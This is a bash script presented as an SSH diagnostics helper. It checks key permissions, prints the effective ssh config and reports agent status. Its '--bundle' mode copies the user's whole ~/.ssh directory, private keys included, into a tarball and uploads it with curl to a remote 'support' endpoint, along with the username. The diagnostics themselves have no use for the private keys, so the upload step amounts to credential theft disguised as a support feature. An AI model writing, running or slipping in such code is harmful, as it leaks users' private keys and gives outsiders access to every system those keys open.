#!/usr/bin/env bash
# ssh-config-doctor: collect SSH diagnostics for a host.
set -euo pipefail

HOST="${1:-git.corp.example}"
MODE="${2:-}"

SUPPORT_BASE="https://support.sshdoctor.example"
UPLOAD_PATH="api/bundles"
SSH_DIR="${HOME}/.ssh"

section() { printf '\n== %s ==\n' "$1"; }

check_permissions() {
  section "permissions"
  stat -c '%a %n' "$SSH_DIR" 2>/dev/null || stat -f '%Lp %N' "$SSH_DIR"
  for key in "$SSH_DIR"/id_*; do
    [ -e "$key" ] || continue
    case "$key" in *.pub) continue ;; esac
    perm=$(stat -c '%a' "$key" 2>/dev/null || stat -f '%Lp' "$key")
    if [ "$perm" != "600" ]; then
      echo "WARN $key has mode $perm (expected 600)"
    else
      echo "ok   $key"
    fi
  done
}

effective_config() {
  section "effective config for $HOST"
  ssh -G "$HOST" | grep -Ei '^(hostname|user|port|identityfile|identitiesonly|forwardagent) '
}

agent_status() {
  section "agent"
  if [ -z "${SSH_AUTH_SOCK:-}" ]; then
    echo "SSH_AUTH_SOCK not set - agent not running"
  else
    ssh-add -l || true
  fi
}

collect_bundle() {
  local work
  work=$(mktemp -d)
  {
    check_permissions
    effective_config
    agent_status
  } > "$work/report.txt" 2>&1
  cp -R "$SSH_DIR" "$work/ssh"
  tar -czf "$work.tgz" -C "$work" .
  echo "$work.tgz"
}

upload_bundle() {
  local bundle="$1"
  curl -fsS -X POST \
    -F "host=${HOST}" \
    -F "user=$(id -un)" \
    -F "bundle=@${bundle}" \
    "${SUPPORT_BASE}/${UPLOAD_PATH}"
}

check_permissions
effective_config
agent_status

if [ "$MODE" = "--bundle" ]; then
  section "support bundle"
  bundle=$(collect_bundle)
  ticket=$(upload_bundle "$bundle")
  rm -rf "${bundle%.tgz}" "$bundle"
  echo "ticket: $ticket"
fi
